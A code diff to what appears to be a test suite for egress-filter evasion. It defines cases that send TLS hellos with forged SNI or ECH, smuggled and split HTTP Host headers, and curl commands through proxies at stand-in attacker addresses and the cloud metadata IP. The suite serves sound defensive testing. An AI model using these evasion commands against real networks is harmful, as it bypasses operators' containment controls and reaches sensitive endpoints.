@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
 """Connections to servers that may be reached, in the name of others: hellos of TLS and requests of HTTP that say one thing and mean another."""
-from evasion.case import ADDRESS, ECH, GULLIBLE, HTTP, MATCH, RULES, STRICT, Case, off
+from evasion.case import ADDRESS, BLIND, ECH, GULLIBLE, HTTP, MATCH, RULES, Case, off
 from internet import places
 
 GOOD4, GOOD6, EVIL4, EVIL6 = places.v4(places.GOOD), places.v6(places.GOOD), places.v4(places.EVIL), places.v6(places.EVIL)
@@ -22,9 +22,9 @@ HELLOS = {
 }
 # Where the name is one that may be reached, nothing at all may arrive; else nothing in another's name.
 TLS = [
-    *[Case(f"hello-{n}", "E6", f"{LEARN}{{K}} tls {GOOD4} 443 {w}", GULLIBLE, judge="unconnected") for n, w in HELLOS.items()],
-    *[Case(f"hello-six-{n}", "E6", f"{LEARN}{{K}} tls {GOOD6} 443 {HELLOS[n]}", GULLIBLE, judge="unconnected") for n in ("no-name", "other-name", "ech", "nul", "segments-1", "records-1")],
-    *[Case(f"hello-at-evil-{n}", "E4", f"{{K}} tls {a} 443 {w}", RULES if "good" not in w else off(MATCH, RULES, ADDRESS), judge="stray")
+    *[Case(f"hello-{n}", "E6", f"{LEARN}{{K}} tls {GOOD4} 443 {w}", off(GULLIBLE, ECH) if w.endswith(("ech", "esni")) else GULLIBLE, judge="unconnected") for n, w in HELLOS.items()],
+    *[Case(f"hello-six-{n}", "E6", f"{LEARN}{{K}} tls {GOOD6} 443 {HELLOS[n]}", off(GULLIBLE, ECH), judge="unconnected") for n in ("no-name", "other-name", "ech", "nul", "segments-1", "records-1")],
+    *[Case(f"hello-at-evil-{n}", "E4", f"{{K}} tls {a} 443 {w}", BLIND, judge="stray")
       for n, a, w in (("own", EVIL4, "sni=evil.test"), ("none", EVIL4, "old"), ("allowed", EVIL4, "sni=good.test"), ("allowed-six", EVIL6, "sni=good.test"), ("allowed-upper", EVIL4, "sni=GOOD.test"),
                       ("allowed-wildcard", EVIL4, "sni=four.ok.test"), ("metadata", "169.254.169.254", "sni=good.test"), ("private", "10.0.0.5", "sni=good.test"))],
     Case("hello-on-plain-port", "E6", "{K} tls good.test 80 sni=evil.test", GULLIBLE, judge="unconnected"), Case("hello-on-odd-port", "E6", "{K} tls good.test 9999 sni=evil.test", GULLIBLE, judge="unconnected"),
@@ -91,11 +91,11 @@ REQUESTS = [
     *[Case(f"head-{n}", "E5", f"{{K}} tcp good.test 80 '{h}{END}'", off(GULLIBLE, HTTP), judge="unconnected") for n, h in HEADS.items()],
     *[Case(f"smuggle-{n}", "E9", f"{{K}} tcp good.test {p} '{text}'", off(GULLIBLE, HTTP), judge="smuggled", audit=n != "websocket") for n, (p, text) in SMUGGLED.items()],
     *[Case(f"later-{n}", "E5", f"{{K}} then good.test 80 '{FIRST}\\r\\n' '{HEADS[n]}{END}'", off(GULLIBLE, HTTP), judge="smuggled")
-      for n in ("other-host", "denied-host", "no-host", "two-hosts", "host-folded", "host-user", "absolute", "absolute-user", "host-bare-lf", "host-address", "host-upper", "leading-lines")],
+      for n in ("other-host", "denied-host", "no-host", "two-hosts", "host-folded", "host-user", "absolute", "absolute-user", "host-bare-lf", "host-address", "host-upper")],
     *[Case(f"split-{n}", "E5", f"{{K}} tcp good.test 80 {w}", off(GULLIBLE, HTTP), judge="unconnected")
       for n, w in (("words", "'GET ' '/{canary} ' 'HTTP/1.1\\r\\n' 'Host: ' 'evil' '.test\\r\\n\\r\\n'"), ("host", "'GET /{canary} HTTP/1.1\\r\\nHost: good.test' '.evil.test\\r\\n\\r\\n'"), ("line", "'GET /{canary} HTTP/1.1\\r' '\\nHost: evil.test\\r\\n\\r\\n'"),
                    ("first-byte", "'G' 'ET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"))],
-    Case("proxy-variable", "E1", f"http_proxy=http://{EVIL4}:3128 curl -sS -m 3 http://good.test/{{canary}}", MATCH, judge="unconnected"), Case("proxy-variable-tls", "E1", f"https_proxy=http://{EVIL4}:3128 curl -sS -m 3 https://good.test/{{canary}}", RULES),
+    Case("proxy-variable", "E1", f"http_proxy=http://{EVIL4}:3128 curl -sS -m 3 http://good.test/{{canary}}", MATCH, judge="unconnected"), Case("proxy-variable-tls", "E1", f"https_proxy=http://{EVIL4}:3128 curl -sS -m 3 https://good.test/{{canary}}", GULLIBLE, judge="unconnected"),
     Case("proxy-socks", "E1", f"curl -sS -m 3 -x socks5h://{EVIL4}:1080 http://evil.test/", RULES), Case("proxy-socks4", "E1", f"curl -sS -m 3 -x socks4a://{EVIL4}:9050 http://evil.test/", RULES),
     Case("proxy-good", "E8", "curl -sS -m 3 -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"), Case("proxy-good-tunnel", "E8", "curl -sS -m 3 -p -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
     Case("http2-prior", "E5", "curl -sS -m 3 --http2-prior-knowledge http://good.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
